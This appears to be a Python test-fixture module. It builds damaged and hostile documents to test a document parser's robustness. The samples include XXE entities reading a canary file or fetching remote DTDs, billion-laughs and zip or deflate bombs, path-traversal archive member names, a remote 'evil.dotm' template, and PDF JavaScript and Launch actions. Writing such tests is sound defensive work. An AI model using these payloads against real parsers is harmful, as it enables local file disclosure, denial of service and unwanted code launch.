"""Damaged and hostile documents of every kind: what a mail attachment or a careless disk may bring."""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.made_documents import (
    A,
    P,
    R,
    S,
    W,
    join_pdf,
    make_docx,
    make_epub,
    make_pdf,
    make_pptx,
    make_xlsx,
    make_zip,
    relations,
)


@dataclass(frozen=True)
class Hostile:
    """``must_fail``: it cannot be read at all; others may give what is whole of them."""

    name: str
    data: bytes
    must_fail: bool = True


def iter_hostile(canary: Path, address: str) -> Iterator[Hostile]:
    """All of them. They point at a file and at a server that nobody may touch."""
    yield from _damaged()
    yield from _wrong_names()
    yield from _xml(canary, address)
    yield from _archives(canary)
    yield from _sheets()
    yield from _pdfs(canary, address)
    yield from _pages(canary, address)
    yield from _texts()


def _whole() -> dict[str, bytes]:
    pages = [f"Page {number} of a report about ink" for number in range(12)]
    return {
        "docx": make_docx(),
        "pptx": make_pptx(["One", "Two", "Three"]),
        "xlsx": make_xlsx(),
        "epub": make_epub(),
        "pdf": make_pdf(pages, compress=True),
    }


def _damaged() -> Iterator[Hostile]:
    """Cut off at several places, bytes turned round, blocks overwritten, empty."""
    for kind, data in _whole().items():
        yield Hostile(f"empty.{kind}", b"")
        yield Hostile(f"zeros.{kind}", bytes(4096))
        for share in (5, 20, 40, 60, 80, 95):
            yield Hostile(f"cut-{share}.{kind}", data[: len(data) * share // 100], must_fail=kind != "pdf")
        chance = random.Random(kind)
        for number in range(8):
            broken = bytearray(data)
            for _ in range(1 + 6 * number):
                broken[chance.randrange(len(broken))] ^= 1 << chance.randrange(8)
            yield Hostile(f"flipped-{number}.{kind}", bytes(broken), must_fail=False)
        for number in range(4):
            start = len(data) * (number + 1) // 6
            noise = chance.randbytes(min(400, len(data) - start))
            yield Hostile(f"overwritten-{number}.{kind}", data[:start] + noise + data[start + len(noise) :], must_fail=False)


def _wrong_names() -> Iterator[Hostile]:
    picture = b"\x89PNG\r\n\x1a\n" + bytes(2000)
    for name in ("picture.pdf", "picture.docx", "picture.txt"):
        yield Hostile(name, picture)
    yield Hostile("program.md", b"\x7fELF\x02\x01\x01" + bytes(500))
    yield Hostile("program.xlsx", b"MZ\x90\x00" + bytes(500))
    yield Hostile("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000))
    yield Hostile("locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + bytes(3000))
    yield Hostile("any.zip", make_zip({"readme.txt": "words"}))
    yield Hostile("gzip.txt", b"\x1f\x8b\x08" + bytes(100))
    yield Hostile("model.txt", b"GGUF" + bytes(100))
    yield Hostile("noise.txt", random.Random(1).randbytes(5000))
    yield Hostile("text.pdf", b"only words")
    yield Hostile("text.epub", b"only words")


def _xml(canary: Path, address: str) -> Iterator[Hostile]:
    """External entities, billions of laughs, document types fetched from elsewhere, depth, and links to elsewhere."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
    types = {
        "laughs": (f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', "&l10;"),
        "file": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.as_uri()}">]>', "&e;"),
        "web": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}/entity">]>', "&e;"),
        "parameter": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/dtd"> %p;]>', ""),
        "type": (f'<!DOCTYPE x SYSTEM "{address}/x.dtd">', ""),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000),
    }
    for name, (head, body) in types.items():
        document = f'{head}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'
        yield Hostile(f"{name}.docx", make_docx(extra={"word/document.xml": document}))
        sheet = f'{head}<worksheet xmlns="{S}"><row><c t="inlineStr"><is><t>{body}</t></is></c></row></worksheet>'
        yield Hostile(f"{name}.xlsx", make_xlsx(extra={"xl/worksheets/sheet1.xml": sheet}))
        slide = f'{head}<p:sld xmlns:p="{P}" xmlns:a="{A}"><a:p><a:r><a:t>{body}</a:t></a:r></a:p></p:sld>'
        yield Hostile(f"{name}.pptx", make_pptx(extra={"ppt/slides/slide1.xml": slide}))
        container = f'{head}<container><rootfile full-path="OEBPS/book.opf"/></container>'
        yield Hostile(f"{name}.epub", make_epub(extra={"META-INF/container.xml": container}))
    deep = "<w:p>" * 200_000 + "</w:p>" * 200_000
    yield Hostile("deep.docx", make_docx(deep), must_fail=False)
    yield Hostile("not-xml.docx", make_docx(extra={"word/document.xml": "<w:document"}))
    yield Hostile("empty-part.docx", make_docx(extra={"word/document.xml": ""}))
    yield Hostile("strange-encoding.docx", make_docx(extra={"word/document.xml": '<?xml version="1.0" encoding="none"?><x/>'}))
    links = relations({}, {"r9": f"{address}/picture.png", "r8": canary.as_uri()})
    yield Hostile("links.docx", make_docx(extra={"word/_rels/document.xml.rels": links}), must_fail=False)
    yield Hostile("links.pptx", make_pptx(extra={"ppt/slides/_rels/slide1.xml.rels": links}), must_fail=False)
    outside = relations({"r1": f"../../../../../../..{canary}"}, {"r2": f"{address}/sheet.xml"})
    yield Hostile("outside.xlsx", make_xlsx(extra={"xl/_rels/workbook.xml.rels": outside}))
    template = relations({}, {"r1": f"{address}/evil.dotm"})
    yield Hostile("template.docx", make_docx(extra={"word/_rels/settings.xml.rels": template}), must_fail=False)
    fields = '<w:p><w:r><w:instrText>INCLUDETEXT "' + str(canary) + '"</w:instrText></w:r><w:r><w:t>field</w:t></w:r></w:p>'
    yield Hostile("include.docx", make_docx(fields), must_fail=False)


def _archives(canary: Path) -> Iterator[Hostile]:
    """Bombs, names that lead outside, too many members, false sizes, locked members."""
    zeros = bytes(600 * 1024 * 1024 // 8)
    bomb = zeros
    for kind, part in (("docx", "word/document.xml"), ("xlsx", "xl/worksheets/sheet1.xml"), ("pptx", "ppt/slides/slide1.xml")):
        whole = _whole()[kind]
        yield Hostile(f"bomb.{kind}", _replaced(whole, part, bomb))
        yield Hostile(f"lying-size.{kind}", _lie_about_size(_replaced(whole, part, bomb), part))
        slips = {f"../../../../..{canary}": "overwritten", "..\\..\\evil.txt": "x", "/etc/evil": "x"}
        yield Hostile(f"slip.{kind}", _with(whole, slips), must_fail=False)
        yield Hostile(f"many.{kind}", _with(whole, {f"m/{number}": "" for number in range(20_050)}))
        yield Hostile(f"twice.{kind}", _with(whole, {part: "<again/>"}), must_fail=False)
        yield Hostile(f"locked-member.{kind}", _lock(whole, part))
        yield Hostile(f"method.{kind}", _set_method(whole, part, 97))
    text = b"<a>" + b"word " * 20_000_000 + b"</a>"
    yield Hostile("bomb.epub", _replaced(make_epub(), "OEBPS/text/c0.xhtml", text))
    nested = make_zip({"word/document.xml": make_zip({"a": zeros[:1000]})})
    yield Hostile("nested.docx", nested)
    yield Hostile("half-missing.pptx", make_zip({"ppt/presentation.xml": "<x/>"}), must_fail=False)
    slides = {"ppt/_rels/presentation.xml.rels": relations({"r1": "slides/none.xml", "r2": "x"})}
    yield Hostile("slides-missing.pptx", make_pptx(extra=slides))
    circle = '<container><rootfile full-path="META-INF/container.xml"/></container>'
    yield Hostile("circle.epub", make_epub(extra={"META-INF/container.xml": circle}))


def _sheets() -> Iterator[Hostile]:
    """A sheet that claims a thousand million cells, cells far out, and numbers that are none."""
    claim = '<dimension ref="A1:XFD1048576"/>'
    row = '<row r="1"><c r="A1"><v>1</v></c></row>'
    far = '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    yield Hostile("claims.xlsx", make_xlsx(f"{claim}<sheetData>{row}{far}</sheetData>"), must_fail=False)
    wild = '<row r="99999999999"><c r="ZZZZZZZZ99"><v>1e999</v></c><c r="-1" s="99999999" t="s"><v>99999999</v></c></row>'
    yield Hostile("wild.xlsx", make_xlsx(f"<sheetData>{wild}</sheetData>"), must_fail=False)
    cells = "<c><v>1</v></c>" * 16_384
    yield Hostile("wide.xlsx", make_xlsx(f"<sheetData>{f'<row>{cells}</row>' * 60}</sheetData>"), must_fail=False)
    yield Hostile("rows.xlsx", make_xlsx("<sheetData>" + '<row r="7"/>' * 3_000_000 + "</sheetData>"), must_fail=False)
    many = "".join(f"<row><c><v>{number}</v></c><c><v>0.{number}</v></c></row>" for number in range(400_000))
    yield Hostile("million.xlsx", make_xlsx(f"<sheetData>{many}</sheetData>"), must_fail=False)
    dates = '<row><c s="1"><v>1e308</v></c><c s="1"><v>-1e9</v></c><c s="1"><v>x</v></c></row>'
    yield Hostile("dates.xlsx", make_xlsx(f"<sheetData>{dates}</sheetData>"), must_fail=False)
    shared = f'<sst xmlns="{S}">' + f"<si><t>{'x' * 1000}</t></si>" * 20_000 + "</sst>"
    yield Hostile("strings.xlsx", make_xlsx(extra={"xl/sharedStrings.xml": shared}))
    book = f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>' + '<sheet name="x" r:id="r1"/>' * 2_000 + "</sheets></workbook>"
    yield Hostile("sheets.xlsx", make_xlsx(extra={"xl/workbook.xml": book}), must_fail=False)


def _pdfs(canary: Path, address: str) -> Iterator[Hostile]:
    """Page trees without end, streams that swell, locked files, scripts, links and launches."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"

    def build(tree: bytes, first: bytes = page, content: bytes = b"", root: bytes = b"", trailer: bytes = b"") -> bytes:
        stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)
        return join_pdf([b"<< /Type /Catalog /Pages 2 0 R %s >>" % root, tree, first, stream], trailer)

    one = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    yield Hostile("circle.pdf", build(b"<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] >>"), must_fail=False)
    yield Hostile("claims.pdf", build(b"<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>"), must_fail=False)
    yield Hostile("negative.pdf", build(b"<< /Type /Pages /Count -5 /Kids [3 0 R] >>"), must_fail=False)
    yield Hostile("no-kids.pdf", build(b"<< /Type /Pages /Count 1 >>"), must_fail=False)
    yield Hostile("no-root.pdf", join_pdf([b"<< >>"]), must_fail=False)
    huge = page.replace(b"595 842", b"99999999 99999999")
    yield Hostile("huge-page.pdf", build(one, huge), must_fail=False)
    nan = page.replace(b"595 842", b"nan -1e999")
    yield Hostile("no-size.pdf", build(one, nan), must_fail=False)
    yield Hostile("deep.pdf", build(one, content=b"q " * 500_000), must_fail=False)
    yield Hostile("arrays.pdf", build(one, content=b"[" * 300_000), must_fail=False)
    swell = zlib.compress(bytes(200 * 1024 * 1024), 9)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(swell), swell)
    yield Hostile("bomb.pdf", join_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", one, page, stream]), must_fail=False)
    twice = zlib.compress(zlib.compress(bytes(100 * 1024 * 1024), 9))
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(twice), twice)
    yield Hostile("bomb-twice.pdf", join_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", one, page, stream]), must_fail=False)
    script = b'/OpenAction << /S /JavaScript /JS (app.launchURL("%s/js")) >>' % address.encode()
    yield Hostile("script.pdf", build(one, root=script), must_fail=False)
    launch = b"/OpenAction << /S /Launch /F (%s) >>" % str(canary).encode()
    yield Hostile("launch.pdf", build(one, root=launch), must_fail=False)
    link = b"/OpenAction << /S /URI /URI (%s/uri) >>" % address.encode()
    yield Hostile("link.pdf", build(one, root=link), must_fail=False)
    outside = b"<< /F (%s) /Length 0 >>\nstream\n\nendstream" % str(canary).encode()
    yield Hostile("outside.pdf", join_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", one, page, outside]), must_fail=False)
    locked = b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >> /ID [<00> <00>]"
    yield Hostile("locked.pdf", build(one, trailer=locked % (b"41" * 32, b"42" * 32)))
    yield Hostile("unknown-lock.pdf", build(one, trailer=b"/Encrypt << /Filter /Own /V 99 >>"))
    whole = make_pdf(["Words"])
    yield Hostile("no-table.pdf", whole.replace(b"startxref", b"startxxxx"), must_fail=False)
    yield Hostile("only-head.pdf", b"%PDF-1.7\n")
    yield Hostile("head-twice.pdf", b"junk" * 100 + whole, must_fail=False)
    yield Hostile("self-length.pdf", whole.replace(b"/Length ", b"/Length 999999999 "), must_fail=False)
    yield Hostile("self-kid.pdf", build(one, b"<< /Type /Pages /Count 9 /Kids [3 0 R 2 0 R] >>"), must_fail=False)


def _pages(canary: Path, address: str) -> Iterator[Hostile]:
    """Web pages with frames, scripts, pictures and links to elsewhere, without end, or nested without end."""
    yield Hostile(
        "remote.html",
        f"<html><base href='{address}/'><link rel=stylesheet href=a.css><script src=a.js></script><img src='a.png' alt='x'>"
        f"<iframe src='{canary.as_uri()}'></iframe><object data='{canary.as_uri()}'></object><p>words</p>".encode(),
        must_fail=False,
    )
    yield Hostile("deep.html", b"<html>" + b"<div>" * 300_000 + b"x", must_fail=False)
    yield Hostile("deep-table.html", b"<html>" + b"<table><tr><td>" * 100_000, must_fail=False)
    yield Hostile("open-tag.html", b"<html><p " + b"a=" * 500_000, must_fail=False)
    yield Hostile("entities.html", b"<html>" + b"&#99999999999999;&nosuch;" * 50_000, must_fail=False)
    yield Hostile("comment.html", b"<html><!--" + b"<!--" * 300_000, must_fail=False)
    yield Hostile("declaration.html", b"<html><!" + b"[" * 200_000, must_fail=False)
    yield Hostile("charset.html", b"<html><meta charset=utf-7>+ADw-script+AD4-", must_fail=False)
    yield Hostile("codec.html", b"<html><meta charset=zlib_codec>words", must_fail=False)
    yield Hostile("binary.html", b"<html>" + bytes(range(256)) * 40)
    yield Hostile(
        "entity.xhtml", f'<!DOCTYPE html [<!ENTITY e SYSTEM "{canary.as_uri()}">]><html>&e;</html>'.encode(), must_fail=False
    )
    yield Hostile("picture.svg", f'<svg><image href="{address}/a.png"/><text>x</text></svg>'.encode(), must_fail=False)


def _texts() -> Iterator[Hostile]:
    yield Hostile("long-line.txt", b"a" * 11_000_000, must_fail=False)
    yield Hostile("too-long.txt", b"word " * 3_000_000)
    yield Hostile("too-large.txt", b"word " * 10_100_000)
    yield Hostile("nulls.txt", b"words\x00\x00\x00more")
    yield Hostile("controls.txt", b"\x1b[2J\x07\x07\x07" * 300)
    yield Hostile("half.txt", "研墨".encode()[:-1] * 400, must_fail=False)
    yield Hostile("mark-only.txt", b"\xff\xfe", must_fail=False)
    yield Hostile("odd.txt", b"\xff\xfe\x41", must_fail=False)
    yield Hostile("surrogates.txt", b"\xff\xfe" + b"\x00\xd8" * 300)
    yield Hostile("bars.csv", b'"' + b"a,b\n" * 200_000, must_fail=False)
    yield Hostile("wide.csv", b"," * 2_000_000, must_fail=False)
    yield Hostile("brackets.json", b"[" * 1_000_000, must_fail=False)
    yield Hostile("headings.md", b"#" * 500_000 + b"\n" + b"> " * 300_000, must_fail=False)
    yield Hostile("direction.txt", "\u202egnp.exe\u202c words".encode() * 50, must_fail=False)
    yield Hostile("anchors.yaml", b"a: &a [x]\n" + b"b: [*a,*a,*a]\n" * 1000, must_fail=False)


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _replaced(data: bytes, part: str, body: bytes) -> bytes:
    return make_zip({**_members(data), part: body})


def _with(data: bytes, more: dict[str, str]) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, body in more.items():
            if name in archive.namelist():
                archive.fp.seek(0, 2)  # type: ignore[union-attr]
                archive.NameToInfo.pop(name)
            archive.writestr(name, body)
    return buffer.getvalue()


def _lie_about_size(data: bytes, part: str) -> bytes:
    """Both headers say that the member is a hundred bytes long."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        size = archive.getinfo(part).file_size.to_bytes(4, "little")
    return data.replace(size, (100).to_bytes(4, "little"))


def _set_in_headers(data: bytes, part: str, local: int, central: int, value: int) -> bytes:
    changed = bytearray(data)
    name = part.encode()
    for signature, header, place in ((b"PK\x03\x04", 30, local), (b"PK\x01\x02", 46, central)):
        start = changed.find(signature)
        while start >= 0:
            if changed[start + header : start + header + len(name)] == name:
                changed[start + place : start + place + 2] = value.to_bytes(2, "little")
            start = changed.find(signature, start + 1)
    return bytes(changed)


def _lock(data: bytes, part: str) -> bytes:
    return _set_in_headers(data, part, 6, 8, 1)


def _set_method(data: bytes, part: str, method: int) -> bytes:
    return _set_in_headers(data, part, 8, 10, method)
